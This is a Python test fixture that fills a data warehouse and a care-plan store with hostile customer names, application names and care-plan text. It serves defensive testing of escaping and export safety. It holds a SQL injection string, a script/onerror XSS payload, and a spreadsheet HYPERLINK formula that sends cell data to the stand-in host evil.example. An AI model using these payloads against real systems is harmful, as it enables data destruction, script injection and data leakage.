"""A fixture warehouse and care-plan store full of hostile text: SQL metacharacters and
HTML/script in customer names, application names and every care-plan text field. Shared by
tests/access (AppTest) and tests/e2e (real browser), loaded by file path."""

from __future__ import annotations

from pathlib import Path

import duckdb

SQL_HOSTILE = "'; DROP TABLE customers; --"
HTML_HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(1)>"
# A spreadsheet formula (CSV injection): must reach CSV/XLSX downloads as text, never run.
FORMULA_HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2;"Avaa")'
# customer → hostile name (C001 keeps its manager Anna Aalto, C002 Berit Berg)
NAMES = {"C001": f"Koulu {SQL_HOSTILE}", "C002": f"Sote {HTML_HOSTILE}",
         "C003": FORMULA_HOSTILE}
APPLICATIONS = {"Himble LogUs": f"App {HTML_HOSTILE}", "Legasos": f"App {SQL_HOSTILE}"}


def make_hostile(warehouse: Path) -> None:
    """Rename customers and applications in every relation that carries the name."""
    con = duckdb.connect(str(warehouse))
    try:
        tables = con.execute(
            "SELECT DISTINCT table_schema, table_name FROM information_schema.columns"
            " WHERE column_name = 'customer_name'").fetchall()
        for schema, table in tables:
            kind = con.execute("SELECT table_type FROM information_schema.tables WHERE"
                               " table_schema = ? AND table_name = ?", [schema, table]).fetchone()
            if kind and kind[0] != "BASE TABLE":
                continue
            for customer, name in NAMES.items():
                con.execute(f'UPDATE "{schema}"."{table}" SET customer_name = ?'
                            " WHERE customer_id = ?", [name, customer])
        for old, new in APPLICATIONS.items():
            con.execute("UPDATE application_updates SET application = ? WHERE application = ?",
                        [new, old])
        con.execute("CHECKPOINT")
    finally:
        con.close()


def hostile_careplan(store_path: Path) -> None:
    """Hostile text in every text field of every section of C001 and C002 (as the operator)."""
    from warehouse.careplans import SECTIONS, CarePlanStore

    store = CarePlanStore(store_path)
    for customer, text in (("C001", SQL_HOSTILE), ("C002", HTML_HOSTILE)):
        for section, fields in SECTIONS.items():
            values = {name: (f"{name} {text}" if kind == "text" else None)
                      for name, kind in fields.items()}
            if section == "potential":
                values["score"] = 6
                store.save_single(customer, section, values, expected_version=0,
                                  user=f"operator {text}")
            else:
                store.add(customer, section, values, user=f"operator {text}")
